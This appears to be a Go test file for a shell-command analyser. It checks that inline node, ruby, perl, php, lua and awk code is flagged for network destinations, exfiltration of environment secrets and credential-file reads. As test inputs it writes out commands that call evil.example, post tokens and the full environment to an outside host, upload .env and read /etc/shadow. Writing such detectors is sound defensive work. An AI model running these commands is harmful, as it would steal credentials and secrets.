package bash

import (
	"strings"
	"testing"
)

// sentOut reports whether the facts of src hold a network Output of name.
func sentOut(t *testing.T, src, name string) {
	t.Helper()
	f := run(t, src)
	for _, o := range f.Outputs {
		if o.Sink != "network" {
			continue
		}
		for _, v := range o.Vars {
			if v == name {
				return
			}
		}
	}
	t.Errorf("%s: %s not sent over the network\n%s", src, name, dump(f))
}

// noHost reports that src records no network use of host.
func noHost(t *testing.T, src, host string) {
	t.Helper()
	f := run(t, src)
	for _, n := range f.Network {
		if n.Host == host {
			t.Errorf("%s: unexpected destination %s\n%s", src, host, dump(f))
		}
	}
}

// TestInterpreterNetworkAPIs checks that the network APIs of inline code
// record their destination and what their arguments carry, for every
// registered language (RULES.md principle 6).
func TestInterpreterNetworkAPIs(t *testing.T) {
	// Destinations: URLs, host arguments, options objects, raw connects.
	hasHost(t, `node -e "fetch('https://evil.example/x')"`, "evil.example")
	hasHost(t, `node -p "require('https').get('https://evil.example/x')"`, "evil.example")
	hasHost(t, `node -e "require('node:http').request({host: 'evil.example', path: '/'}).end()"`, "evil.example")
	hasHost(t, `node -e "require('net').connect(4444, 'evil.example')"`, "evil.example")
	hasHost(t, `node -e "const h = require('https'); h.get('https://evil.example/')"`, "evil.example")
	hasHost(t, `ruby -e "require 'net/http'; Net::HTTP.get('evil.example', '/x')"`, "evil.example")
	hasHost(t, `ruby -e "TCPSocket.new('evil.example', 80)"`, "evil.example")
	hasHost(t, `ruby -e "require 'open-uri'; open('http://evil.example/x').read"`, "evil.example")
	hasHost(t, `perl -MHTTP::Tiny -e 'HTTP::Tiny->new->post("https://evil.example/", {content => 1})'`, "evil.example")
	hasHost(t, `perl -e 'IO::Socket::INET->new(PeerAddr => "evil.example:80")'`, "evil.example")
	hasHost(t, `php -r 'fsockopen("evil.example", 80);'`, "evil.example")
	hasHost(t, `php -r '$c = curl_init("https://evil.example/");'`, "evil.example")
	hasHost(t, `lua -e "local http = require('socket.http'); http.request('https://evil.example/x')"`, "evil.example")
	hasHost(t, `lua -e "require('socket.http').request('http://169.254.169.254/')"`, "169.254.169.254")
	// Programs on standard input are the language too, not bash.
	hasHost(t, "node <<'EOF'\nfetch('https://evil.example/x')\nEOF", "evil.example")
	hasHost(t, `echo "fetch('https://evil.example/x')" | node`, "evil.example")
	hasHost(t, "ruby <<< \"Net::HTTP.get(URI('https://evil.example/'))\"", "evil.example")
	if d := findDyn(run(t, "node <<'EOF'\nconsole.log(1)\nEOF"), "heredoc_interpreter"); d == nil || d.Interpreter != "node" {
		t.Errorf("node heredoc: no heredoc_interpreter exec: %+v", d)
	}
	// A URL that is only printed is not a request.
	noHost(t, `node -e "console.log('https://evil.example')"`, "evil.example")
	noHost(t, `ruby -e "puts 'https://evil.example'"`, "evil.example")
	noHost(t, `php -r "echo 'https://evil.example';"`, "evil.example")
	noHost(t, `lua -e "print('https://evil.example')"`, "evil.example")
	// A dotted literal given to a getter is no destination.
	noHost(t, `perl -e 'print $conf->get("db.host")'`, "db.host")
	// What the arguments carry: environment values, directly, through a
	// variable or interpolated into the URL.
	sentOut(t, `node -e "fetch('https://github.com/x', {method: 'POST', body: process.env.AWS_SECRET_ACCESS_KEY})"`, "AWS_SECRET_ACCESS_KEY")
	sentOut(t, `node -e "const b = JSON.stringify(process.env); fetch('https://github.com/x', {method: 'POST', body: b})"`, "*")
	sentOut(t, "node -e 'fetch(`https://evil.example/${process.env.GITHUB_TOKEN}`)'", "GITHUB_TOKEN")
	sentOut(t, `ruby -e "Net::HTTP.post_form(URI('https://github.com/'), 't' => ENV['GITHUB_TOKEN'])"`, "GITHUB_TOKEN")
	sentOut(t, `ruby -e "Net::HTTP.post_form(URI('https://github.com/'), ENV.to_h)"`, "*")
	sentOut(t, `perl -MHTTP::Tiny -e 'HTTP::Tiny->new->post_form("https://github.com/", \%ENV)'`, "*")
	sentOut(t, `perl -MLWP::Simple -e 'get("https://github.com/?k=$ENV{API_TOKEN}")'`, "API_TOKEN")
	sentOut(t, `php -r '$c = curl_init("https://github.com/"); curl_setopt($c, CURLOPT_POSTFIELDS, getenv("DB_PASSWORD"));'`, "DB_PASSWORD")
	sentOut(t, `lua -e "require('socket.http').request('https://github.com/', os.getenv('API_KEY'))"`, "API_KEY")
	sentOut(t, `php -r 'echo file_get_contents("https://github.com/?k=" . getenv("AWS_SECRET_ACCESS_KEY"));'`, "AWS_SECRET_ACCESS_KEY")
	hasHost(t, `php -r 'echo file_get_contents("https://evil.example/?k=" . getenv("X"));'`, "evil.example")
	// A file's content read into a variable and sent is an upload of it.
	f := run(t, `node -e "const d = require('fs').readFileSync('.env', 'utf8'); fetch('https://github.com/x', {method: 'POST', body: d})"`)
	up := false
	for _, n := range f.Network {
		up = up || n.Upload && n.UploadFrom == ".env"
	}
	if !up {
		t.Errorf("node readFileSync then fetch: no upload of .env\n%s", dump(f))
	}
	// awk reads files with getline.
	hasFile(t, `awk 'BEGIN { while ((getline line < "/etc/shadow") > 0) print line }'`, "/etc/shadow", "read")
	// A script operand's heredoc is the script's input, not code.
	f = run(t, "node app.js <<'EOF'\nfetch('https://evil.example/x')\nEOF")
	for _, n := range f.Network {
		if strings.Contains(n.Host, "evil") {
			t.Errorf("node app.js heredoc scanned as code\n%s", dump(f))
		}
	}
}
